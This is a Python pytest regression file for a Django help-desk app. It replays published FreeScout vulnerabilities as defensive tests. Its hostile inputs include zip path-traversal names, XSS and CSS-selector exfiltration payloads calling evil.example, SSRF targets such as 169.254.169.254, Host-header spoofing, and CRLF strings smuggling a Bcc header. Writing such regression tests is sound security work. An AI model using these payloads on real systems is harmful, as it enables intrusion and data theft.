"""Twenty published faults of FreeScout: what each teaches, asked of this desk."""

from __future__ import annotations

import hashlib
import io
import re
import socket
import threading
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from provodnik.accounts import announce as account_letters
from provodnik.accounts import tokens
from provodnik.accounts.models import User
from provodnik.api.tests.speaking import Program
from provodnik.channels.email import identity
from provodnik.channels.email.parse.attachments import safe_name as name_of_a_letters_file
from provodnik.channels.models import Mailbox
from provodnik.channels.outgoing import token_key
from provodnik.core import files
from provodnik.core.secrets import seal
from provodnik.desk.actions import work
from provodnik.desk.actions.base import NewFile
from provodnik.desk.forms.files import safe_name as name_of_an_uploaded_file
from provodnik.desk.models import Attachment, Contact, Macro, Message, MessageKind, SavedView, Ticket
from provodnik.desk.tests.factories import PASSWORD
from tests.lessons.around import MARKUP, feedback, last_event, person, take_in, tell_everything
from tests.lessons.conftest import As
from tests.mail import letter
from tests.matrix import ROWS
from tests.pages import active
from tests.test_matrix import body, fingerprint, to_sign_in
from tests.world import MISSING_KEY, World

pytestmark = pytest.mark.django_db
DESK_SPACES = ("desk:", "articles:", "works:", "quality:", "assignment:", "files:letter")
REMOVING = re.compile(r"remove|drop|delete|undo|recall|unlink|forget|detach|cancel|withdraw|revoke")


def asked_of_the_former(world: World, client: Client, *, removing: bool) -> list[str]:
    """What a specialist whose role is gone can still do, of all that a specialist may; his own things among it."""
    wrong = []
    for name, row in ROWS.items():
        if "POST" not in row.methods or not name.startswith(DESK_SPACES) or bool(REMOVING.search(name)) != removing:
            continue
        for thing, people in row.things.items():
            if "specialist" not in people or "ex_contact" in people or "administrator" in people:
                continue
            address = reverse(name, kwargs=world.things[name][thing] if thing else {})
            answer = client.post(address, {"key": str(uuid.uuid4()), "text": "Чужое", "title": "Чужое", "mode": "note"})
            if answer.status_code != 404:
                wrong.append(f"{name} of {thing}: {answer.status_code}")
    return wrong


def leave_the_desk(world: World) -> User:
    """The specialist who made a note, a macro, a view and an answer that waits is taken off the desk."""
    user = person(world, "specialist")
    Macro.objects.update(owner=user)
    SavedView.objects.update(owner=user)
    User.objects.filter(pk=user.pk).update(roles=[])
    return user


def test_cve_2026_48810_who_left_the_desk_rewrites_nothing(world: World, as_: As) -> None:
    """The policy asked who wrote it and not whether he still belongs there: an author stayed able to edit."""
    leave_the_desk(world)
    before = fingerprint()
    assert asked_of_the_former(world, as_("specialist"), removing=False) == []
    for route in ("answer", "withdraw", "rate", "complain"):  # the requester's side: he wrote it, and has left
        address = reverse(f"requests:{route}", kwargs=world.things["requests:show"]["ex_contacts"])
        assert as_("ex_contact").post(address, {"text": "Ещё", "rating": "5"}).status_code == 404
    assert fingerprint() == before


def test_cve_2026_48811_who_left_the_desk_removes_nothing(world: World, as_: As) -> None:
    """A former colleague could still delete the notes he had written: authorship alone is no right."""
    user = leave_the_desk(world)
    program = Program(user)
    before = fingerprint()
    assert asked_of_the_former(world, as_("specialist"), removing=True) == []
    for step, sent in (("notes", {"text": "Ещё"}), ("close", {"text": "Ещё", "resolution": "solved"}), ("take", {})):
        answer = program.post(f"/desk/requests/{world.own.pk}/{step}", sent)
        assert answer.status_code in (403, 404), step
    changed = [one for one in fingerprint() if one not in before]
    assert all("token" in str(one) for one in changed), changed  # when the token was used


def test_cve_2026_48812_no_file_is_too_old_to_be_asked_about(world: World, as_: As) -> None:
    """An old kind of token skipped the check: every file, whatever its age and place, has the same one door."""
    message = Message.objects.get(ticket=world.own, kind=MessageKind.REQUEST)
    for number, blob in enumerate((files.keep(b"x" * 70_000), files.empty())):  # on the disk, and of no bytes at all
        Attachment.objects.create(message=message, blob=blob, name=f"{number}.txt", content_type="text/plain")
    for file in Attachment.objects.filter(message=message):
        guessed = hashlib.md5(f"{file.pk}{file.blob.size}".encode(), usedforsecurity=False).hexdigest()
        for query in ("", "?token=", f"?token={guessed}", "?token_type=1", f"?id=1&token_type=1&token={guessed}"):
            address = reverse("files:download", args=[file.pk]) + query
            assert to_sign_in(Client().get(address))
            assert as_("other_requester").get(address).status_code == 404
        for address in (f"/storage/attachment/{file.name}", f"/files/{file.blob.name or 'x'}", f"/media/{file.name}"):
            assert Client().get(address).status_code in (302, 404)
            assert as_("requester").get(address).status_code == 404


def test_cve_2026_48812_what_is_open_to_everybody_is_this_and_no_more() -> None:
    """One route without a check is enough: who opens another one to everybody writes it here."""
    public = {name for name, row in ROWS.items() if any("anonymous" in people for people in row.things.values())}
    assert public == {
        "web:health", "watch:live", "accounts:sign_in", "accounts:sign_out", "accounts:forgot",
        "accounts:forgot_sent",
        "accounts:reset", "accounts:welcome", "accounts:sign_in_second", "accounts:sign_in_passkey_options",
        "accounts:sign_in_passkey", "api:openapi", "rating:rate", "status:page", "status:feed", "status:calendar",
        "status:letters", "entry:start", "entry:start_with", "entry:password", "exchange:schema",
        "federation:start", "federation:back", "federation:left", "entry:start_link", "manual:page",
    }  # fmt: skip


def test_cve_2026_47123_a_letter_never_speaks_for_the_desk(world: World) -> None:
    """A notification's Message-ID was believed without its signature: a forged sender became an agent's word."""
    agent = person(world, "specialist")
    requester = world.own.contact_email
    number, since = world.own.pk, last_event()
    said_before = Message.objects.filter(ticket=number).count()
    forged = f"<pv.replied.{number}.1.{'a' * 24}@desk.example>"
    take_in(letter("Смените пароль.", sender=agent.email, reply_to_ids=forged, subject="Re"), agent.email)
    assert Message.objects.filter(ticket=number).count() == said_before
    mine = identity.make_message_id(key=token_key(), kind="replied", ticket=number, serial="1", domain="desk.example")
    take_in(letter("Смените пароль.", sender=agent.email, reply_to_ids=mine, subject="Re"), agent.email)
    said = Message.objects.filter(ticket=number).latest("pk")
    assert (said.kind, said.author_id) == (MessageKind.ANSWER, None)
    assert requester not in {row.recipient for row in tell_everything(since)}


def test_cve_2026_45294_a_forgotten_password_tells_nobody_who_is_here(world: World) -> None:
    """The page after «forgot» looked different for an address that has an account."""
    known = person(world, "requester")
    answers = set()
    for typed in (
        known.login,
        known.email,
        person(world, "switched_off").login,
        "nobody-here",
        "nobody@nowhere.example",
    ):
        client = Client()
        sent = client.post(reverse("accounts:forgot"), {"login": typed})
        page = client.get(sent.headers["Location"])
        answers.add((sent.status_code, sent.headers["Location"], sent.content, str(sent.cookies.keys()), body(page)))
    assert len(answers) == 1


def test_cve_2026_41193_an_archive_writes_nothing(world: World, as_: As) -> None:
    """The names inside an archive led out of the folder it was unpacked into: here no archive is unpacked at all."""
    slip = io.BytesIO()
    with zipfile.ZipFile(slip, "w") as archive:
        for name in ("../../../../tmp/provodnik-slip", "/tmp/provodnik-slip", "..\\..\\provodnik-slip"):
            archive.writestr(name, "x")
    kind = {"kind": "requests", "source": "Другая", "key": str(uuid.uuid4())}
    brought = {**kind, "file": SimpleUploadedFile("export.zip", slip.getvalue())}
    as_("administrator").post(reverse("transfer:index"), brought)
    sent = as_("requester").post(reverse("requests:new"), feedback(files=SimpleUploadedFile("a.zip", slip.getvalue())))
    assert sent.status_code == 302
    sender = world.own.contact_email
    take_in(letter(sender=sender, files=(("a.zip", slip.getvalue()),)), sender)
    assert list(Path(django_settings.BASE_DIR).rglob("*provodnik-slip*")) == []  # other tests keep files beside
    assert not Path("/tmp/provodnik-slip").exists()


def test_cve_2026_40591_a_request_is_bound_to_its_own_people_alone(world: World, as_: As) -> None:
    """The form of a phone call took the customer's number from the request and never asked whether it was his."""
    own, other = world.own.contact, world.foreign.contact
    assert own is not None and other is not None
    foreign = {
        "contact": other.pk,
        "contact_id": other.pk,
        "customer": other.customer_id,
        "customer_id": other.customer_id,
    }
    made = as_("requester").post(reverse("requests:new"), feedback(**foreign, requester_name="Другой"))
    ticket = Ticket.objects.latest("pk")
    assert made.status_code == 302 and (ticket.contact, ticket.customer_id) == (own, own.customer_id)
    program = Program(person(world, "requester"))
    for field, value in foreign.items():
        assert program.post("/requests", {"text": "Да", "impact": "question", field: value}).status_code in (400, 422)
    watching = reverse("desk:tie", args=[world.own.pk, "watchers"])
    assert as_("specialist").post(watching, {"contacts": [other.pk]}).status_code == 422
    assert not Ticket.objects.filter(pk=world.own.pk, watchers__contact=other).exists()


def test_cve_2026_40570_nobody_is_told_about_people_by_their_address(world: World, as_: As) -> None:
    """An AJAX action gave everything known of a person to whoever knew his e-mail address."""
    other = world.foreign.contact
    assert other is not None
    asked = {"q": other.email, "who": other.email, "contact": other.pk}
    for who in ("requester", "coordinator", "ex_contact"):
        client, program = as_(who), Program(person(world, who))
        for route in ("desk:people", "desk:choose", "desk:new", "desk:search", "desk:palette", "settings:customers"):
            answer = client.get(reverse(route), asked)
            assert answer.status_code == 404 and other.name not in answer.text, (who, route)
        for address in (f"/contacts?q={other.email}", f"/contacts/{other.pk}", "/desk/people", "/customers"):
            answer = program.get(address)
            assert answer.status_code in (403, 404) and other.name not in answer.content.decode(), (who, address)


def test_cve_2026_40569_a_form_changes_what_stands_in_it_and_nothing_else(world: World, as_: As) -> None:
    """The settings of a connection took every field of the model: a hidden copy of all letters went elsewhere."""
    box = Mailbox.objects.order_by("pk")[0]
    box.imap_host, box.imap_password = "mail.chv.example", "прежний"
    box.save()
    names = {field.attname for field in Mailbox._meta.concrete_fields}
    hidden = {
        "imap_secret",
        "smtp_secret",
        "fetched_at",
        "tried_at",
        "error",
        "waiting",
        "uidvalidity",
        "done_below",
        "id",
    }
    assert hidden < names
    before = Mailbox.objects.filter(pk=box.pk).values(*hidden).get()
    typed = {
        **dict.fromkeys(hidden | {"auto_bcc", "bcc", "reply_to"}, "7"),
        "name": "Новое имя",
        "address": box.address,
    }
    typed |= {"imap_host": box.imap_host, "imap_username": box.imap_username, "smtp_host": "", "smtp_secret": "7"}
    typed |= {"position": "1", "imap_port": "993", "smtp_port": "465", "imap_security": "tls", "smtp_security": "tls"}
    sent = as_("administrator").post(reverse("settings:mailbox", args=[box.pk]), {**typed, "folder": "INBOX"})
    assert sent.status_code in (302, 303), sent.text[:2000]
    after = Mailbox.objects.filter(pk=box.pk)
    assert after.values(*hidden).get() == before and after.get().name == "Новое имя"
    requester = person(world, "requester")
    powers = {"roles": ["administrator"], "is_superuser": "1", "is_staff": "1", "is_active": "0", "login": "root"}
    as_("requester").post(reverse("accounts:profile"), {"full_name": "Имя", **powers, "email": "evil@evil.example"})
    same = User.objects.get(pk=requester.pk)
    assert (same.roles, same.is_active, same.login, same.email) == ([], True, requester.login, requester.email)


def test_cve_2026_40568_a_signature_is_text_on_every_page(world: World, as_: As) -> None:
    """A list of four forbidden tags let every other one run from the signature of a mailbox: here all is encoded."""
    box = Mailbox.objects.order_by("pk")[0]
    for text in MARKUP:
        Mailbox.objects.filter(pk=box.pk).update(name=text)
        Macro.objects.filter(title="Мне").update(text=text)
        for who, address in (
            ("administrator", reverse("settings:mailboxes")),
            ("administrator", reverse("settings:mailbox", args=[box.pk])),
            ("specialist", reverse("desk:macros")),
            ("specialist", reverse("desk:choose_macro", args=[world.own.pk])),
            ("requester", reverse("requests:new")),
        ):
            page = as_(who).get(address)
            assert page.status_code == 200 and active(page.text) == [], (text, address)


def test_cve_2026_40567_a_senders_name_is_text_in_our_letters(world: World) -> None:
    """The name of a sender stood unescaped in answers: a stranger wrote links into letters from our address."""
    since = last_event()
    evil = 'Анна <a href="https://evil.example">Войдите</a>{{7777*7777}}{%customer%}'
    raw = letter(sender=f'"{evil.replace(chr(34), chr(92) + chr(34))}" <new.person@nowhere.example>')
    take_in(raw, "new.person@nowhere.example")
    ticket = Ticket.objects.latest("pk")
    assert "evil.example" in ticket.requester_name
    work.reply(
        ticket.pk, text=f"Здравствуйте, {ticket.requester_name}!", by=person(world, "specialist"), at=timezone.now()
    )
    written = tell_everything(since)
    assert any(row.recipient == "new.person@nowhere.example" for row in written)
    for row in written:
        assert '<a href="https://evil.example"' not in row.html and "60481729" not in row.html
    assert any("&lt;a href=" in row.html for row in written)


@pytest.mark.parametrize("host", ["169.254.169.254", "::ffff:169.254.169.254", "fe80::1", "0.0.0.0", "224.0.0.1"])
def test_cve_2026_40566_the_test_button_knocks_at_no_address_of_the_clouds_keys(
    world: World, as_: As, monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    """The test of a connection opened sockets to any address and told what answered there."""
    knocked: list[Any] = []
    monkeypatch.setattr(socket.socket, "connect", lambda self, address: knocked.append(address))
    box = Mailbox.objects.order_by("pk")[0]
    where = {"imap_host": host, "smtp_host": host, "imap_port": 143, "smtp_port": 2525}
    Mailbox.objects.filter(pk=box.pk).update(**where, imap_security="none", smtp_security="none")
    page = as_("administrator").post(reverse("settings:check_mailbox", args=[box.pk]))
    assert page.status_code == 200 and knocked == []
    Mailbox.objects.filter(pk=box.pk).update(imap_host="127.0.0.1", smtp_host="127.0.0.1", imap_port=22, smtp_port=80)
    as_("administrator").post(reverse("settings:check_mailbox", args=[box.pk]))
    assert knocked == []  # other services' ports


def test_cve_2026_40566_another_services_words_are_not_told(world: World, as_: As) -> None:
    """The answer of whatever listens there came back in a log: what is no mail server is told to be none, no more."""
    box = Mailbox.objects.order_by("pk")[0]
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        where = {"imap_host": "127.0.0.1", "smtp_host": "127.0.0.1", "imap_port": port, "smtp_port": port}
        Mailbox.objects.filter(pk=box.pk).update(**where, imap_security="none", smtp_security="none")
        speaker = threading.Thread(target=_speak, args=(listener,), daemon=True)
        speaker.start()
        page = as_("administrator").post(reverse("settings:check_mailbox", args=[box.pk]))
        speaker.join(timeout=30)
    assert page.status_code == 200 and page.text.count("отвечает не почтовый сервер") == 2 and "Banner" not in page.text


def _speak(listener: socket.socket) -> None:
    for _ in range(2):
        known, _address = listener.accept()
        with known:
            known.sendall(b"SSH-2.0-SecretBanner_9\r\n")


def test_cve_2026_40497_no_style_of_a_letter_reaches_a_page(world: World, as_: As) -> None:
    """Script was taken out and style was not: selectors read the form's token letter by letter."""
    spy = "<style>input[value^='a']{background:url(https://evil.example/a)}</style>"
    inline = (
        '<p style="background:url(https://evil.example/b)">Слово</p><link rel=stylesheet href=https://evil.example/c>'
    )
    raw = (
        letter(sender=world.own.contact_email).replace(b"text/plain", b"text/html").partition(b"\r\n\r\n")[0]
        + b"\r\n\r\n"
        + (spy + inline).encode("utf-8")
    )
    raw = raw.replace(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: 8bit")
    row = take_in(raw, world.own.contact_email)
    message = Message.objects.get(inbound=row)
    assert "Слово" in message.html and "evil.example" not in message.html
    page = as_("specialist").get(reverse("files:letter_page", args=[message.pk]))
    assert page.status_code == 200 and active(page.text) == [] and "evil.example" not in page.text
    assert "style-src 'self';" in page.headers["Content-Security-Policy"]
    for who, address in (
        ("specialist", f"/desk/{message.ticket_id}"),
        ("requester", f"/requests/{message.ticket_id}/"),
    ):
        page = as_(who).get(address)
        assert page.status_code == 200 and active(page.text) == []
        assert "unsafe" not in page.headers["Content-Security-Policy"]


def test_cve_2026_40496_a_files_address_follows_from_nothing(world: World, as_: As) -> None:
    """The token was md5(key + id + size): whoever counts ids and sizes downloads everything."""
    specialist = person(world, "specialist")
    same = [NewFile("a.png", "image/png", b"x" * 70_000)] * 2
    note = work.note(world.own.pk, text="Два одинаковых", by=specialist, at=timezone.now(), files=same)
    keys = [file.pk for file in note.attachments.all()]
    assert len(set(keys)) == 2 and all(key.version == 4 for key in keys)  # RFC 9562, 5.4: 122 random bits
    names = [file.blob.name for file in note.attachments.select_related("blob")]
    assert len(set(names)) == 2 and all(uuid.UUID(name).version == 4 for name in names)
    for near in (keys[0].int + 1, keys[0].int - 1, 1, MISSING_KEY.int):
        assert as_("specialist").get(reverse("files:download", args=[uuid.UUID(int=near)])).status_code == 404
    assert as_("specialist").get("/files/1").status_code == 404


def test_cve_2026_34442_addresses_are_ours_whatever_the_host_says(world: World, as_: As, settings: Any) -> None:
    """Links, redirects and assets were built from the Host header of the request."""
    settings.ALLOWED_HOSTS = ["portal.example"]
    claims = {
        "x-forwarded-host": "evil.example",
        "forwarded": "host=evil.example",
        "x-forwarded-server": "evil.example",
    }
    for path in ("/sign-in/", "/", "/requests/", "/requests/new/", "/forgot/", "/no-such-page"):
        assert as_("requester").get(path, headers={"host": "evil.example"}).status_code == 400
        answer = as_("requester").get(path, headers={"host": "portal.example", **claims})
        assert answer.status_code < 500 and "evil.example" not in answer.text + str(answer.headers)


def test_cve_2026_32754_what_a_letter_says_is_text_in_our_letters(world: World) -> None:
    """Notices to the desk carried the body of a letter as HTML: its script ran in the agent's mail program."""
    since = last_event()
    sender = world.own.contact_email
    raw = letter("\n".join(MARKUP), sender=sender, subject=MARKUP[0])
    take_in(raw, sender)
    ticket = Ticket.objects.latest("pk")
    work.reply(ticket.pk, text="Ответ: " + MARKUP[1], by=person(world, "specialist"), at=timezone.now())
    work.ask(ticket.pk, text="Вопрос: " + MARKUP[2], by=person(world, "specialist"), at=timezone.now())
    written = tell_everything(since)
    assert len(written) >= 3
    for row in written:  # a style of our own may stand in a letter, a handler or a foreign address may not
        found = [
            one
            for one in active(row.html, django_settings.BASE_URL)
            if "evil" in one or " on" in one or "script" in one
        ]
        assert found == [], row.key


def test_cve_2026_32753_a_picture_is_one_by_its_bytes(world: World, as_: As) -> None:
    """xss.png with the type image/svg+xml passed both checks and was shown in the page."""
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for name, content in (("xss.png", svg), ("broken.png", svg[:-6]), ("page.png", b"<html><script>1</script>")):
        upload = SimpleUploadedFile(name, content, "image/svg+xml")
        assert as_("requester").post(reverse("requests:new"), feedback(files=upload)).status_code == 302
        file = Attachment.objects.latest("message_id")
        assert file.name == name
        assert as_("specialist").get(reverse("files:preview", args=[file.pk])).status_code == 404
        got = as_("specialist").get(reverse("files:download", args=[file.pk]))
        assert (
            got.headers["Content-Type"] == "application/octet-stream"
            and "sandbox" in got.headers["Content-Security-Policy"]
        )
        assert (
            got.headers["Content-Disposition"].startswith("attachment")
            and got.headers["X-Content-Type-Options"] == "nosniff"
        )


@pytest.mark.parametrize("clean", [name_of_an_uploaded_file, name_of_a_letters_file])
def test_cve_2026_28289_a_name_is_cleaned_before_it_is_judged(clean: Any) -> None:
    """A zero-width space before the dot passed the check, and was taken out after it: cleaned twice is cleaned once."""
    hidden = (
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\u180e",
        "\u202e",
        "\u2066",
        "\x00",
        "\x7f",
        " ",
        "\u00a0",
    )
    for sign in hidden:
        for raw in (
            f"{sign}.htaccess",
            f".{sign}htaccess",
            f"{sign}..{sign}/{sign}x",
            f"x.p{sign}hp{sign}.",
            f"{sign}.",
        ):
            name = clean(raw)
            assert clean(name) == name, (raw, name)
            assert name and not name.startswith(".") and "/" not in name
            assert sign.isspace() or sign not in name, (raw, name)


def test_cve_2026_27637_no_token_follows_from_a_person_and_none_lasts(world: World, settings: Any) -> None:
    """The token was md5(id + date + key): the same for ever, for whoever once saw the key."""
    user = person(world, "colleague")
    user.set_password(PASSWORD)
    user.save()
    link = tokens.make(user, tokens.Purpose.RESET)
    assert tokens.read(link, tokens.Purpose.RESET) == user
    user.set_password(f"{PASSWORD} два")
    user.save()
    assert tokens.read(link, tokens.Purpose.RESET) is None
    first, second = Client(), Client()
    first.force_login(user)
    second.force_login(user)
    keys = [client.cookies[settings.SESSION_COOKIE_NAME].value for client in (first, second)]
    assert keys[0] != keys[1] and all(len(key) == 32 for key in keys)
    other = keys[0][:-1] + ("1" if keys[0].endswith("0") else "0")
    assert to_sign_in(Client().get(reverse("web:home"), headers={"cookie": f"{settings.SESSION_COOKIE_NAME}={other}"}))
    assert Program(user).key != Program(user).key


def test_cve_2025_48388_no_line_ends_come_through(world: World, as_: As) -> None:
    """\\r, \\n and \\t in what was typed reached headers and commands: what is one line stays one."""
    breaks = "Имя\r\nBcc: evil@evil.example\tx\u2028y\x85z"
    as_("requester").post(reverse("accounts:profile"), {"full_name": breaks})
    contact = world.own.contact
    assert contact is not None
    Contact.objects.filter(pk=contact.pk).update(name=breaks)
    since = last_event()
    answer = as_("requester").post(reverse("requests:new"), feedback(text=breaks))
    assert answer.status_code == 302
    for row in tell_everything(since):
        assert len(row.subject.splitlines()) == len(row.recipient.splitlines()) == 1
    account_letters.send_reset(sealed=seal(person(world, "requester").login))
    for sent in mail.outbox:
        assert sent.to == [person(world, "requester").email] and not sent.bcc and len(sent.subject.splitlines()) == 1
    for name in (f'a"{breaks}.png',):
        upload = SimpleUploadedFile("x", b"1")
        upload._name = name  # type: ignore[attr-defined]  # as it comes over the wire
        as_("requester").post(reverse("requests:new"), feedback(files=upload))
        file = Attachment.objects.latest("message_id")
        got = as_("requester").get(reverse("files:download", args=[file.pk]))
        assert len(str(got.headers["Content-Disposition"]).splitlines()) == 1
